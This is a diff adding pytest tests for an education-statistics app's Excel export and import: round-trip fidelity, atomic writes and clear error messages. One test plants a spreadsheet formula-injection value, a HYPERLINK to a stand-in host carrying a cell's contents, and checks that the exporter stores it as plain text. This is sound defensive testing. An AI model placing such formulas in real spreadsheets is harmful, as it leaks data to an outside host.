@@ -1,0 +1,293 @@
+"""Export: faithful, safe text, atomic; and export → import → export gives the same data."""
+
+from __future__ import annotations
+
+import datetime as dt
+import zipfile
+from pathlib import Path
+
+import openpyxl
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+from sqlalchemy import select
+from xlsx_helpers import convert_with_libreoffice, needs_libreoffice, resave_with_libreoffice
+
+from vetdesk.db import models
+from vetdesk.domain.identifiers import generate_id_number
+from vetdesk.exchange.atomic import WriteFailed
+from vetdesk.exchange.export import export_period, take_snapshot
+from vetdesk.exchange.importer import apply_import
+from vetdesk.exchange.reader import read_workbook
+from vetdesk.exchange.rows import canonical_rows
+from vetdesk.exchange.schema import EXPORT_SHEETS
+from vetdesk.exchange.writer import ExportRefused
+from vetdesk.services.database import create_database, open_database
+from vetdesk.services.periods import ensure_period
+
+
+def canonical_snapshot(db, year=2025):
+    snapshot = take_snapshot(db, year)
+    return {spec.key: canonical_rows(spec, snapshot.records[spec.key]) for spec in EXPORT_SHEETS}
+
+
+def roundtrip(source_db, folder: Path, name: str):
+    first = folder / f"{name}-1.xlsx"
+    export_period(source_db, 2025, first)
+    target = create_database(
+        folder / f"{name}-target.db", role="county", unit_code="630223", operator="乙"
+    )
+    plan = apply_import(target, read_workbook(first))
+    assert plan.applied, [i.describe() for i in plan.issues]
+    second = folder / f"{name}-2.xlsx"
+    export_period(target, 2025, second)
+    return first, second, target
+
+
+def test_export_import_export_gives_identical_data(county_db, tmp_path):
+    db = open_database(county_db)
+    _first, _second, target = roundtrip(db, tmp_path, "demo")
+    assert canonical_snapshot(db) == canonical_snapshot(target)
+    db.close()
+    target.close()
+
+
+def test_export_has_cover_sheets_and_indicators(county_db, tmp_path):
+    db = open_database(county_db)
+    out = tmp_path / "export.xlsx"
+    snapshot = export_period(db, 2025, out)
+    wb = openpyxl.load_workbook(out, read_only=True)
+    assert wb.sheetnames[:3] == ["封面", "学校名录", "办学条件"]
+    assert "核验结果" in wb.sheetnames
+    cover = {
+        row[0]: row[1]
+        for row in wb["封面"].iter_rows(min_row=3, values_only=True)
+        if row and row[0]
+    }
+    assert cover["填报单位"] == "互助土族自治县（630223）"
+    assert cover["统计年度"] == "2025"
+    assert cover["教师名册（条）"] == str(snapshot.counts()["teachers"])
+    ids = [r[3] for r in wb["教师名册"].iter_rows(min_row=2, values_only=True)]
+    assert all(isinstance(i, str) and len(i) == 18 for i in ids)
+    db.close()
+
+
+def _awkward_school(db, values):
+    with db.transaction() as session:
+        period = ensure_period(session, 2025)
+        school = models.School(
+            school_code="3663230099",
+            name=values["name"],
+            county_code="630223",
+            level="secondary",
+            category="general",
+            ownership="public",
+            address=values["address"],
+            contact_person=values["contact"],
+        )
+        session.add(school)
+        session.flush()
+        session.add(
+            models.SchoolCondition(
+                school_id=school.id,
+                period_id=period.id,
+                full_time_students=1200,
+                land_area_m2=values["land"],
+                building_area_m2=24000,
+                equipment_value_yuan=values["money"],
+                books=36000,
+            )
+        )
+        session.add(
+            models.Teacher(
+                school_id=school.id,
+                period_id=period.id,
+                name=values["teacher"],
+                id_number=generate_id_number("632126", dt.date(1980, 1, 2), 5, "男"),
+                role="general_course",
+                education="bachelor",
+                title="none",
+                double_teacher_level="none",
+                double_teacher_body=values["body"],
+            )
+        )
+        session.add(
+            models.TrainingProgramme(
+                school_id=school.id,
+                period_id=period.id,
+                name=values["training"],
+                category="other",
+                target_group="other",
+                start_date=dt.date(2025, 1, 1),
+                end_date=dt.date(2025, 1, 2),
+                hours=8,
+                enrolled=1,
+                completed=1,
+                certified=0,
+                funding_source=values["funding_source"],
+            )
+        )
+
+
+_text = (
+    st.text(
+        alphabet=st.sampled_from(
+            [*list("王阿卜杜·热合曼𠀀𪚥娜卓玛ABCxyz0123456789 =+-@'\"%（）、，。"), "\u3000"]
+        ),
+        min_size=1,
+        max_size=30,
+    )
+    .map(str.strip)
+    .filter(bool)
+)
+_looks_like = st.sampled_from(
+    [
+        "007",
+        "=1+1",
+        "+86 13800000000",
+        "-5",
+        "@SUM(A1)",
+        "2024-01-01",
+        "1.5E+17",
+        "TRUE",
+        "0.1",
+        "  前后空格  ",
+    ]
+)
+
+
+@settings(
+    max_examples=12, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
+)
+@given(
+    name=st.one_of(_text, _looks_like),
+    address=st.one_of(st.none(), _text, _looks_like),
+    contact=st.one_of(st.none(), _text),
+    teacher=_text,
+    body=st.one_of(st.none(), _looks_like, _text),
+    training=st.one_of(_text, _looks_like),
+    funding_source=st.one_of(st.none(), _looks_like),
+    land=st.integers(0, 10**9),
+    money=st.integers(0, 10**11),
+)
+def test_roundtrip_property_with_awkward_values(tmp_path_factory, **values):
+    folder = tmp_path_factory.mktemp("rt")
+    db = create_database(folder / "src.db", role="county", unit_code="630223", operator="甲")
+    from vetdesk.domain.textnorm import normalize_name, normalize_text
+
+    values["name"] = normalize_name(values["name"])
+    values["teacher"] = normalize_name(values["teacher"])
+    # Data reaches the database only through imports and forms, which normalise it.
+    values["contact"] = normalize_name(values["contact"]) or None if values["contact"] else None
+    for key in ("address", "body", "training", "funding_source"):
+        if values[key] is not None:
+            values[key] = normalize_text(values[key]) or None
+    values["training"] = values["training"] or "培训"
+    _awkward_school(db, values)
+    _first, _second, target = roundtrip(db, folder, "p")
+    assert canonical_snapshot(db) == canonical_snapshot(target)
+    db.close()
+    target.close()
+
+
+def test_formula_like_text_is_written_as_text(county_db, tmp_path):
+    db = open_database(county_db)
+    with db.transaction() as session:
+        session.scalars(
+            select(models.School)
+        ).first().address = '=HYPERLINK("http://x/?"&B2,"点击")'
+    out = tmp_path / "f.xlsx"
+    export_period(db, 2025, out)
+    with zipfile.ZipFile(out) as zf:
+        sheets = [n for n in zf.namelist() if n.startswith("xl/worksheets/")]
+        xml = "".join(zf.read(n).decode() for n in sheets)
+    assert "<f>" not in xml
+    wb = openpyxl.load_workbook(out)
+    cell = next(
+        c for row in wb["学校名录"].iter_rows() for c in row if str(c.value).startswith("=HYPER")
+    )
+    assert cell.data_type == "s" and cell.quotePrefix
+    db.close()
+
+
+def test_control_characters_and_over_long_text_are_refused_before_writing(county_db, tmp_path):
+    db = open_database(county_db)
+    out = tmp_path / "x.xlsx"
+    out.write_bytes(b"old complete file")
+    with db.transaction() as session:
+        session.scalars(select(models.School)).first().address = "地址\x07响铃"
+    with pytest.raises(ExportRefused) as info:
+        export_period(db, 2025, out)
+    assert "控制字符" in info.value.message and "学校名录" in info.value.message
+    assert out.read_bytes() == b"old complete file"
+    assert not [p for p in tmp_path.iterdir() if p.name.endswith(".tmp")]
+    with db.transaction() as session:
+        session.scalars(select(models.School)).first().address = "长" * 40000
+    with pytest.raises(ExportRefused):
+        export_period(db, 2025, out)
+    db.close()
+
+
+def test_target_open_in_excel_keeps_the_old_file(county_db, tmp_path, monkeypatch):
+    import os
+
+    db = open_database(county_db)
+    out = tmp_path / "x.xlsx"
+    out.write_bytes(b"old complete file")
+
+    def locked(src, dst):
+        raise PermissionError(13, "The process cannot access the file")
+
+    monkeypatch.setattr(os, "replace", locked)
+    with pytest.raises(WriteFailed) as info:
+        export_period(db, 2025, out)
+    assert "Excel/WPS" in info.value.message
+    assert out.read_bytes() == b"old complete file"
+    assert [p.name for p in tmp_path.iterdir() if p.suffix == ".tmp"] == []
+    db.close()
+
+
+def test_disk_full_gives_a_clear_message(county_db, tmp_path, monkeypatch):
+    import errno
+
+    from openpyxl import Workbook
+
+    db = open_database(county_db)
+
+    def full(self, filename):
+        raise OSError(errno.ENOSPC, "No space left on device")
+
+    monkeypatch.setattr(Workbook, "save", full)
+    with pytest.raises(WriteFailed) as info:
+        export_period(db, 2025, tmp_path / "x.xlsx")
+    assert "磁盘空间" in info.value.message
+    assert not (tmp_path / "x.xlsx").exists()
+    db.close()
+
+
+def test_missing_target_folder_gives_a_clear_message(county_db, tmp_path):
+    db = open_database(county_db)
+    with pytest.raises(WriteFailed) as info:
+        export_period(db, 2025, tmp_path / "no-such-folder" / "x.xlsx")
+    assert "不存在" in info.value.message
+    db.close()
+
+
+@needs_libreoffice
+def test_export_opens_in_libreoffice_and_survives_a_resave(county_db, tmp_path):
+    db = open_database(county_db)
+    out = tmp_path / "lo.xlsx"
+    export_period(db, 2025, out)
+    result = convert_with_libreoffice(out, tmp_path, "pdf")
+    assert result.returncode == 0 and (tmp_path / "lo-conv" / "lo.pdf").stat().st_size > 1000, (
+        result.stderr
+    )
+    resaved = resave_with_libreoffice(out, tmp_path)
+    target = create_database(
+        tmp_path / "lo-target.db", role="county", unit_code="630223", operator="乙"
+    )
+    plan = apply_import(target, read_workbook(resaved))
+    assert plan.applied, [i.describe() for i in plan.issues[:5]]
+    assert canonical_snapshot(db) == canonical_snapshot(target)
+    db.close()
+    target.close()
